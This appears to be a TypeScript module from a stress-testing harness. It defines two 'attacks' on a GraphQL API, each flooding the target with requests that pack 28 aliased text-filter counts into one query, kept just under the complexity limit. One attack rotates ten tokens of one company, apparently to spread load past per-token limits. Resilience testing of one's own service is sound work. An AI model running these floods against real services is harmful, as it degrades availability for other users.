import type { Attack } from './attack.js';
import { aliased, flood, graphqlBody } from './client.js';

/** As many as the limit of complexity allows. */
const body = graphqlBody(`{ ${aliased(28, 'goals(filter: {text: "oal"}) { totalCount }')} }`);

export const textFilters: Attack = {
  title: 'one token counts 40,000 goals by text, 28 times in each request',
  strike: (target) => flood(target, 30, () => ({ token: target.token, body })),
};

export const tenTokens: Attack = {
  title: 'ten tokens of one company do the same',
  strike: (target) =>
    flood(target, 30, (number) => ({ token: target.moreTokens[number % target.moreTokens.length], body })),
};
